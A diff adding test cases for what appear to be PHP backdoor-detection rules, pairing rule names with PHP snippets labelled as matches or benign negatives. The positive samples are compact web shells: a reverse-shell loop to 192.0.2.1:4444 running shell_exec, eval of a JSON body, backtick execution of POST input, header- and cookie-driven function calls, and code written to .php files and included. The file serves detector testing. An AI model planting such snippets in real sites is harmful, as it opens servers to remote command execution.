@@ -162,4 +162,65 @@ CASES: list[tuple[str, bytes, bool]] = [
         b"<?php parse_str($_SERVER['QUERY_STRING'], $q); $page = $q['page'] ?? 1; echo render($page);",
         False,
     ),
+    (
+        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
+        b"<?php $d = base64_decode($_POST['d']);\n$f = fopen('s.php', 'w'); fwrite($f, $d); fclose($f);",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
+        b"<?php $h = fopen(__DIR__ . '/.c.php', 'w');\n"
+        b"fwrite($h, gzinflate(base64_decode('S0ktS8zRUCoz1LQGAA==')));\n"
+        b"fclose($h); include __DIR__ . '/.c.php';",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
+        b"<?php $x = $_POST['x'];\n$f = fopen('/tmp/x.php', 'w'); fwrite($f, '<?php ' . $x); fclose($f);\n"
+        b"include '/tmp/x.php';",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_DecodedInputToPhpFile",
+        b'<?php // installer\n$cfg = "<?php\\n\\$db = " . var_export($_POST[\'db\'], true) . ";";\n'
+        b"file_put_contents('config.php', $cfg); echo 'saved';",
+        False,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_SocketShellLoop",
+        b"<?php $h = fsockopen('192.0.2.1', 4444);\nwhile (!feof($h)) { $c = fgets($h, 1024);\n"
+        b"fputs($h, shell_exec($c)); }",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_SocketShellLoop",
+        b"<?php $h = fsockopen('mail.example.org', 25);\n$l = fgets($h, 512);\nfputs($h, \"QUIT\\r\\n\");",
+        False,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
+        b"<?php $j = json_decode(file_get_contents('php://input'));\nif ($j->k == 'x') { eval($j->c); }",
+        True,
+    ),
+    (
+        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
+        b"<?php $j = json_decode(file_get_contents('php://input'), true);\n"
+        b"echo json_encode(['ok' => save($j['name'])]);",
+        False,
+    ),
+    (
+        "SPAMGEAR_EVASION_BacktickVarTiny",
+        b"<?php $q = $_POST['q']; $r = `$q 2>&1`; echo $r;",
+        True,
+    ),
+    (
+        "SPAMGEAR_EVASION_HeaderToSinkTiny",
+        b"<?php if (!empty($_SERVER['HTTP_X_A'])) { $f = $_SERVER['HTTP_X_A'];\n$f($_SERVER['HTTP_X_B']); }",
+        True,
+    ),
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        b"<?php $d = unserialize(base64_decode($_COOKIE['d']));\n$d['f']($d['a']);",
+        True,
+    ),
 ]
